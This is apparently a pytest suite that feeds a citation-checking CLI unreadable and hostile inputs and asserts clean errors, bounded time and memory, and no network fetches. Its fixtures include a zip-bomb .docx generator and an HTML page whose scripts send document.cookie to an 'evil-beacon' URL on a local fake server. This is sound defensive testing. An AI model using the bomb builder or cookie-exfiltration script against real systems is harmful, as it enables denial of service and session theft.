"""Bad and hostile inputs through the real CLI: each ends the way a user would want.

Unreadable or meaningless input → exit status 2 and ONE clear line on stderr (no traceback, no
request sent). Odd but readable input (cp1252, huge lists, huge entries, HTML with scripts) →
read correctly, with a warning where due, in bounded time and memory.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import pytest

from tests.reliability.helpers import (
    REFS,
    assert_one_line_error,
    cli,
    make_env,
    nonblank,
    request_text,
    run_cli,
    sample_lines,
)

MB = 1024 * 1024
COMMANDS = ("verify", "parse")

DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def make_zip_bomb(path: Path, inflated: int = 1024 * MB) -> Path:
    """A .docx whose document.xml inflates to `inflated` bytes (about 1 MB on disk)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", DOCX_CONTENT_TYPES)
        z.writestr("_rels/.rels", DOCX_RELS)
        with z.open("word/document.xml", "w", force_zip64=True) as f:
            head = f"<?xml version=\"1.0\"?><w:document {W_NS}><w:body><w:p><w:r><w:t>1. ".encode()
            f.write(head)
            chunk = b"A" * MB
            for _ in range(inflated // MB):
                f.write(chunk)
            f.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return path


def _limit_memory():  # preexec: a zip bomb must fail cleanly, not eat the machine
    resource.setrlimit(resource.RLIMIT_AS, (2048 * MB, 2048 * MB))


# --------------------------------------------------------------------------- the files


@pytest.fixture(scope="module")
def bad_files(tmp_path_factory):
    d = tmp_path_factory.mktemp("bad")
    files = {}
    files["missing"] = d / "no-such-file.txt"
    (d / "a-folder").mkdir()
    files["directory"] = d / "a-folder"
    (d / "empty.txt").write_bytes(b"")
    files["empty"] = d / "empty.txt"
    (d / "blank.txt").write_bytes(b"\n \n\t\n\n")
    files["blank"] = d / "blank.txt"
    pdf = (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Length 44 >>\nstream\n" + bytes(range(256)) * 40 + b"\nendstream\nendobj\n%%EOF\n"
    )
    (d / "article.pdf").write_bytes(pdf)
    files["pdf"] = d / "article.pdf"
    (d / "renamed-pdf.txt").write_bytes(pdf)  # a PDF that says it is text
    files["pdf-as-txt"] = d / "renamed-pdf.txt"
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00" + os.urandom(4000)
    (d / "figure.png").write_bytes(png)
    files["png"] = d / "figure.png"
    line = sample_lines()[1].encode()
    (d / "nul.txt").write_bytes(line + b"\n" + b"2. Cannell JJ\x00\x00\x00 Hollis BW.\x00 Use of vitamin D\n")
    files["nul"] = d / "nul.txt"
    big = d / "huge.txt"
    with open(big, "wb") as f:  # 51 MB, sparse: a real first line, then a hole
        f.write(REFS.read_bytes())
        f.truncate(51 * MB)
    files["over-50MB"] = big
    files["zip-bomb-docx"] = make_zip_bomb(d / "bomb.docx")
    return files


CASES = ("missing", "directory", "empty", "blank", "pdf", "pdf-as-txt", "png", "nul", "over-50MB", "zip-bomb-docx")


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("case", CASES)
def test_unreadable_input_is_exit_2_with_one_line(case, command, bad_files, fake, tmp_path):
    path = bad_files[case]
    env = make_env(fake, tmp_path / "cache")
    t0 = time.monotonic()
    p = subprocess.run(
        cli(command, path), capture_output=True, text=True, env=env, timeout=120, preexec_fn=_limit_memory
    )
    took = time.monotonic() - t0
    line = assert_one_line_error(p)
    assert path.name in line, f"the message should name the file: {line}"
    assert p.stdout == "", p.stdout[:500]
    assert fake.count() == 0, "nothing may be asked when the input is unusable"
    assert took < 30, f"{case}: {took:.1f}s"
    print(f"{command} {case}: {took:.2f}s: {line}")


@pytest.mark.skipif(not shutil.which("setpriv") and os.geteuid() == 0, reason="running as root, who reads a chmod-000 file, and `setpriv` (util-linux) is not installed to drop that right")
@pytest.mark.parametrize("command", COMMANDS)
def test_unreadable_file_exit_2(command, tmp_path, fake):
    """chmod 000. Tests run as root, who reads anything: the child then runs as root *without*
    CAP_DAC_OVERRIDE / CAP_DAC_READ_SEARCH (setpriv), so the permission bits apply to it."""
    path = tmp_path / "locked.txt"
    shutil.copy(REFS, path)
    path.chmod(0)
    args = cli(command, path)
    if os.geteuid() == 0:
        drop = "-dac_override,-dac_read_search"
        args = ["setpriv", f"--bounding-set={drop}", f"--inh-caps={drop}", *args]
    try:
        p = subprocess.run(args, capture_output=True, text=True, env=make_env(fake, tmp_path / "cache"), timeout=60)
    finally:
        path.chmod(0o644)
    line = assert_one_line_error(p)
    assert path.name in line, line
    assert fake.count() == 0


def test_zip_bomb_bounded_memory_and_time(bad_files, tmp_path):
    """The bomb inflates to 1 GiB: the reader must refuse it without inflating it.

    The child runs under RLIMIT_AS = 2 GiB (a reader that inflates the part dies with
    MemoryError → traceback → this test fails); its own peak RSS is measured with wait4."""
    out_f, err_f = open(tmp_path / "out", "w+b"), open(tmp_path / "err", "w+b")
    t0 = time.monotonic()
    proc = subprocess.Popen(
        cli("parse", bad_files["zip-bomb-docx"]),
        stdout=out_f,
        stderr=err_f,
        env=make_env(None, tmp_path / "cache"),
        preexec_fn=_limit_memory,
        cwd=tmp_path,
    )
    deadline = time.monotonic() + 60
    while True:
        pid, status, ru = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            break
        if time.monotonic() > deadline:
            proc.kill()
            proc.wait()
            pytest.fail("parse of a zip bomb ran over 60 s")
        time.sleep(0.02)
    proc.returncode = os.waitstatus_to_exitcode(status)
    took = time.monotonic() - t0
    out_f.seek(0), err_f.seek(0)
    p = subprocess.CompletedProcess(proc.args, proc.returncode, out_f.read().decode(), err_f.read().decode())
    assert_one_line_error(p)
    peak_mib = ru.ru_maxrss / 1024
    print(f"zip bomb (1 GiB inflated): refused in {took:.2f}s, peak RSS {peak_mib:.0f} MiB: {p.stderr.strip()}")
    assert took < 20
    assert peak_mib < 512, f"peak RSS {peak_mib:.0f} MiB: the part was inflated"


# --------------------------------------------------------------------------- -o


def test_output_into_missing_folder(env, tmp_path):
    before = REFS.read_bytes()
    out = tmp_path / "no" / "such" / "folder" / "report.json"
    p = run_cli("verify", REFS, "--format", "json", "-o", out, env=env)
    line = assert_one_line_error(p)
    assert "folder" in line or "director" in line, line
    assert not out.parent.exists()
    assert REFS.read_bytes() == before


@pytest.mark.parametrize("spelling", ["same", "relative", "symlink", "hardlink"])
def test_output_equal_to_input_leaves_input_unchanged(spelling, env, tmp_path, fake):
    src = tmp_path / "refs.txt"
    shutil.copy(REFS, src)
    before, mtime = src.read_bytes(), src.stat().st_mtime_ns
    out = {"same": str(src), "relative": "./refs.txt"}.get(spelling)
    if spelling == "symlink":
        (tmp_path / "link.txt").symlink_to(src)
        out = str(tmp_path / "link.txt")
    elif spelling == "hardlink":
        os.link(src, tmp_path / "hard.txt")
        out = str(tmp_path / "hard.txt")
    p = run_cli("verify", str(src), "--format", "json", "-o", out, env=env, cwd=tmp_path)
    assert_one_line_error(p)
    assert src.read_bytes() == before
    assert src.stat().st_mtime_ns == mtime
    assert fake.count() == 0
    assert [x.name for x in tmp_path.iterdir() if x.name.startswith(".")] == []


def test_output_is_a_folder(env, tmp_path):
    p = run_cli("verify", REFS, "--format", "json", "-o", tmp_path, env=env)
    assert_one_line_error(p)


# --------------------------------------------------------------------------- odd but readable


def test_cp1252_input_read_with_a_warning(tmp_path):
    lines = sample_lines()
    text = "\n".join([lines[27], lines[28].replace("Vazquez-Lorente", "Vázquez-Lorente"), lines[29]]) + "\n"
    text = text.replace("Response of Vitamin D", "“Response” of Vitamin D")
    path = tmp_path / "cp1252.txt"
    path.write_bytes(text.encode("cp1252"))
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    p = run_cli("parse", path, "--format", "json", env=make_env(None, tmp_path / "c"))
    assert p.returncode == 0, p.stderr
    assert "Traceback" not in p.stderr
    warnings = [l for l in nonblank(p.stderr) if "warning" in l.lower()]
    assert warnings, f"a cp1252 fallback deserves a warning on stderr: {p.stderr!r}"
    doc = json.loads(p.stdout)
    refs = {r["n"]: r for r in doc["references"]}
    assert sorted(refs) == [27, 28, 29]
    assert refs[28]["parsed"]["authors"][0] in ("Vázquez-Lorente H",), refs[28]["parsed"]["authors"]
    assert "“Response”" in refs[28]["raw"]


def _big_list(n: int, numbered: bool) -> str:
    out = []
    for i in range(1, n + 1):
        entry = (
            f"Author{i % 97} A, Second{i % 89} B, Third C, et al. A study number {i} of vitamin D and "
            f"magnesium in cohort {i % 13}. J Test Med. {1990 + i % 30} Mar;{i % 50 + 1}({i % 12 + 1}):{i}-{i + 9}."
        )
        out.append(f"{i}. {entry}" if numbered else entry)
    return "\n".join(out) + "\n"


def _parse_big(tmp_path, numbered: bool):
    path = tmp_path / "big-list.txt"
    path.write_text(_big_list(20_000, numbered), encoding="utf-8")
    t0 = time.monotonic()
    p = run_cli("parse", path, "--format", "json", env=make_env(None, tmp_path / "c"), timeout=300)
    took = time.monotonic() - t0
    assert p.returncode == 0, p.stderr[-2000:]
    kind = "numbered" if numbered else "one per line"
    print(f"\n20,000-line list ({kind}): `refcheck parse --format json` took {took:.2f}s "
          f"({len(path.read_bytes()) / MB:.1f} MB)")
    return json.loads(p.stdout), took


@pytest.mark.slow
def test_20000_line_list_parses_whole(tmp_path):
    """Every line an entry, none lost (the time it takes is bounded by tests/parse/test_linear_time.py
    and measured by bench/parse_accuracy.py, not by the clock here)."""
    doc, _took = _parse_big(tmp_path, numbered=False)
    assert len(doc["references"]) == 20_000
    r = doc["references"][12344]
    assert r["n"] == 12345 and r["parsed"]["pages"] == "12345-12354", r


@pytest.mark.slow
def test_20000_numbered_entries_parse_as_20000(tmp_path):
    doc, took = _parse_big(tmp_path, numbered=True)
    assert len(doc["references"]) == 20_000, (len(doc["references"]), len(doc["references"][-1]["raw"]))


@pytest.mark.parametrize(
    "shape",
    ["words", "one-token", "commas-and-periods", "digits-and-dashes", "nested-brackets"],
)
def test_reference_of_50000_characters(shape, tmp_path):
    """A monster entry in the middle of a normal list: parsed in bounded time (no regex blow-up)."""
    body = {
        "words": "Vitamin D and magnesium " * 2100,
        "one-token": "A" * 50_000,
        "commas-and-periods": "Smith J, " * 3000 + "et al. " + "Title. " * 3000,
        "digits-and-dashes": "2020;12(3):" + "1-2-3-4;" * 6000,
        "nested-brackets": "(" * 10000 + "[1] " * 5000 + ")" * 10000,
    }[shape]
    entry = f"3. {body}"[:50_000]
    if len(entry) < 50_000:
        entry += "x" * (50_000 - len(entry))
    lines = sample_lines()
    path = tmp_path / "monster.txt"
    path.write_text("\n".join([lines[1], lines[2], entry, lines[4]]) + "\n", encoding="utf-8")
    t0 = time.monotonic()
    p = run_cli("parse", path, "--format", "json", env=make_env(None, tmp_path / "c"), timeout=120)
    took = time.monotonic() - t0
    assert "Traceback" not in p.stderr, p.stderr[-3000:]
    assert p.returncode == 0, p.stderr[-2000:]
    doc = json.loads(p.stdout)
    ns = [r["n"] for r in doc["references"]]
    assert ns == [1, 2, 3, 4], ns
    assert len(doc["references"][2]["raw"]) >= 49_000
    print(f"50,000-character reference ({shape}): {took:.2f}s")
    assert took < 15, f"{shape}: {took:.1f}s"


def test_html_with_scripts_is_never_executed_and_fetches_nothing(fake, tmp_path):
    base = fake.eutils_url.split("/", 3)
    origin = "/".join(base[:3])  # http://127.0.0.1:PORT
    lines = sample_lines()
    html = f"""<!doctype html>
<html><head><title>Vitamin D and magnesium</title>
<script src="{origin}/evil-script.js"></script>
<script>fetch("{origin}/evil-beacon?c=" + document.cookie); var fake = "9. Fabricated F. A reference inside a script. J Script. 2020;1:1-2.";</script>
<link rel="stylesheet" href="{origin}/evil-style.css">
<style>body {{ background: url("{origin}/evil-bg.png") }}</style>
</head>
<body onload="fetch('{origin}/evil-onload')">
<h1>Vitamin D and magnesium</h1>
<p>Vitamin D needs magnesium<sup>1</sup>. <img src="{origin}/evil-img.png"> Both matter<sup>2</sup>.</p>
<iframe src="{origin}/evil-frame"></iframe>
<h2>References</h2>
<ol>
<li>{lines[1].split('. ', 1)[1]}</li>
<li>{lines[2].split('. ', 1)[1]}</li>
</ol>
<script>document.write("<li>3. Injected I. Written by a script. J Script. 2021;2:3-4.</li>")</script>
</body></html>
"""
    path = tmp_path / "article.html"
    path.write_text(html, encoding="utf-8")
    env = make_env(fake, tmp_path / "cache")
    p = run_cli("parse", path, "--format", "json", env=env)
    assert p.returncode == 0, p.stderr
    doc = json.loads(p.stdout)
    raws = [r["raw"] for r in doc["references"]]
    assert len(raws) == 2, raws
    joined = " ".join(raws) + json.dumps(doc)
    for bad in ("Fabricated", "Injected", "fetch(", "document.", "evil"):
        assert bad not in joined, (bad, raws)
    p = run_cli("verify", path, "--format", "json", env=env)
    assert p.returncode in (0, 1), p.stderr
    assert "Traceback" not in p.stderr
    seen = [request_text(r) for r in fake.requests]
    assert not [s for s in seen if "evil" in s], seen
    assert fake.count() > 0  # the references themselves were checked


def test_doi_inside_a_url_with_a_query_is_not_an_accusation(fake, tmp_path):
    from tests.fakes.sample_records import SAMPLE_BY_N

    doi = SAMPLE_BY_N[1].doi
    line = sample_lines()[1] + f" Available at: https://jamanetwork.com/journals/jama/fullarticle/{doi}?utm_source=twitter"
    path = tmp_path / "refs.txt"
    path.write_text(line + "\n", encoding="utf-8")
    p = run_cli("verify", path, "--format", "json", env=make_env(fake, tmp_path / "cache"))
    (ref,) = json.loads(p.stdout)["references"]
    assert ref["parsed"]["doi"] == doi.lower(), ref["parsed"]
    assert ref["status"] == "ok", ref["findings"]
